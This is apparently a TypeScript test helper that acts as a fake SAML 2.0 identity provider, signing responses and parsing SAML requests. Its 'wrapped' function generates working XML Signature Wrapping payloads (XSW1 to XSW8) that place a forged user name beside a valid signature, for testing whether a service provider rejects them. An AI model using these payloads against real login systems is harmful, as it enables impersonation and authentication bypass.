/** An identity provider of SAML 2.0 that signs whatever a test wants. */
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { inflateRawSync } from 'node:zlib';
import { SignedXml } from 'xml-crypto';

export interface Answer {
  readonly requestId: string;
  readonly recipient: string;
  readonly audience: string;
  readonly nameId: string;
  readonly attributes?: Readonly<Record<string, readonly string[]>>;
  readonly issuer?: string;
  readonly destination?: string;
  /** Seconds from now. */
  readonly from?: number;
  readonly until?: number;
  readonly sign?: 'assertion' | 'response' | 'both' | 'none';
  readonly signatureAlgorithm?: string;
  readonly digestAlgorithm?: string;
}

const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
const EXCLUSIVE = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';

export class SamlProvider {
  readonly entityId: string;
  readonly certificate: string;
  readonly #privateKey: string;

  constructor(entityId: string) {
    this.entityId = entityId;
    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    this.#privateKey = privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
    this.certificate = publicKey.export({ type: 'spki', format: 'pem' }) as string;
  }

  /** XML of a response. */
  answer(given: Answer): string {
    const { sign = 'assertion' } = given;
    const plain = responseOf(this.entityId, given);
    const signed = sign === 'assertion' || sign === 'both' ? this.#signed(plain, 'Assertion', given) : plain;
    return sign === 'response' || sign === 'both' ? this.#signed(signed, 'Response', given) : signed;
  }

  #signed(xml: string, name: 'Assertion' | 'Response', given: Answer): string {
    const { signatureAlgorithm = RSA_SHA256, digestAlgorithm = SHA256 } = given;
    const signer = new SignedXml({
      privateKey: this.#privateKey,
      signatureAlgorithm: signatureAlgorithm as typeof RSA_SHA256,
      canonicalizationAlgorithm: EXCLUSIVE,
    });
    const xpath = `//*[local-name(.)='${name}']`;
    signer.addReference({ xpath, digestAlgorithm, transforms: [ENVELOPED, EXCLUSIVE] });
    signer.computeSignature(xml, {
      location: { reference: `${xpath}/*[local-name(.)='Issuer']`, action: 'after' },
    });
    return signer.getSignedXml();
  }
}

function responseOf(entityId: string, given: Answer): string {
  const { requestId, recipient, audience, nameId, attributes = {}, from = -10, until = 120 } = given;
  const at = (seconds: number): string => new Date(Date.now() + seconds * 1000).toISOString();
  const issuer = `<saml:Issuer>${given.issuer ?? entityId}</saml:Issuer>`;
  const id = (): string => `_${randomBytes(16).toString('hex')}`;
  const shown = Object.entries(attributes).map(
    ([name, values]) =>
      `<saml:Attribute Name="${name}">${values.map((one) => `<saml:AttributeValue>${one}</saml:AttributeValue>`).join('')}</saml:Attribute>`,
  );
  return [
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"',
    ` ID="${id()}" Version="2.0" IssueInstant="${at(0)}" InResponseTo="${requestId}" Destination="${given.destination ?? recipient}">`,
    issuer,
    '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>',
    `<saml:Assertion ID="${id()}" Version="2.0" IssueInstant="${at(0)}">${issuer}`,
    `<saml:Subject><saml:NameID>${nameId}</saml:NameID>`,
    '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">',
    `<saml:SubjectConfirmationData InResponseTo="${requestId}" Recipient="${recipient}" NotOnOrAfter="${at(until)}"/>`,
    '</saml:SubjectConfirmation></saml:Subject>',
    `<saml:Conditions NotBefore="${at(from)}" NotOnOrAfter="${at(until)}">`,
    `<saml:AudienceRestriction><saml:Audience>${audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>`,
    `<saml:AuthnStatement AuthnInstant="${at(0)}"/>`,
    `<saml:AttributeStatement>${shown.join('')}</saml:AttributeStatement>`,
    '</saml:Assertion></samlp:Response>',
  ].join('');
}

/** What a service provider asked, out of the address to which it sent the browser. */
export function requestOf(url: string): {
  readonly id: string;
  readonly answerUrl: string;
  readonly issuer: string;
} {
  const deflated = Buffer.from(new URL(url).searchParams.get('SAMLRequest') ?? '', 'base64');
  const xml = inflateRawSync(deflated).toString('utf8');
  return {
    id: /\sID="([^"]+)"/.exec(xml)?.[1] ?? '',
    answerUrl: /AssertionConsumerServiceURL="([^"]+)"/.exec(xml)?.[1] ?? '',
    issuer: /<saml:Issuer[^>]*>([^<]+)</.exec(xml)?.[1] ?? '',
  };
}

/** XSW1 to XSW8 of “On Breaking SAML” (USENIX Security 2012): a forged assertion beside a signature that stays valid. */
export function wrapped(
  provider: SamlProvider,
  given: Answer,
  forgedName: string,
): Readonly<Record<string, string>> {
  const signed = provider.answer(given);
  const [assertion = ''] = /<saml:Assertion.*<\/saml:Assertion>/s.exec(signed) ?? [];
  const [signature = ''] = /<Signature.*<\/Signature>/s.exec(assertion) ?? [];
  const unsigned = assertion.replace(signature, '');
  const forge = (xml: string): string =>
    xml.replaceAll(given.nameId, forgedName).replace(/ ID="_/, ' ID="_f');
  const forged = forge(unsigned);
  const forgedSigned = forged.replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
  const within = (inner: string): string => signature.replace('</Signature>', `${inner}</Signature>`);
  const swap = (inner: string): string => signed.replace(assertion, inner);

  const whole = provider.answer({ ...given, sign: 'response' });
  const [outer = ''] = /<Signature.*<\/Signature>/s.exec(whole) ?? [];
  const original = whole.replace(outer, '');
  const forgedWhole = forge(original);
  const object = `<Object>${original}</Object>`;
  return {
    XSW1: forgedWhole.replace(
      '</saml:Issuer>',
      `</saml:Issuer>${outer.replace('</Signature>', `${object}</Signature>`)}`,
    ),
    XSW2: forgedWhole.replace('</saml:Issuer>', `</saml:Issuer>${original}${outer}`),
    XSW3: swap(`${forged}${assertion}`),
    XSW4: swap(forged.replace('</saml:Assertion>', `${assertion}</saml:Assertion>`)),
    XSW5: swap(`${forgedSigned}${unsigned}`),
    XSW6: swap(forged.replace('</saml:Issuer>', `</saml:Issuer>${within(unsigned)}`)),
    XSW7: swap(`<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`),
    XSW8: swap(forged.replace('</saml:Issuer>', `</saml:Issuer>${within(`<Object>${unsigned}</Object>`)}`)),
  };
}
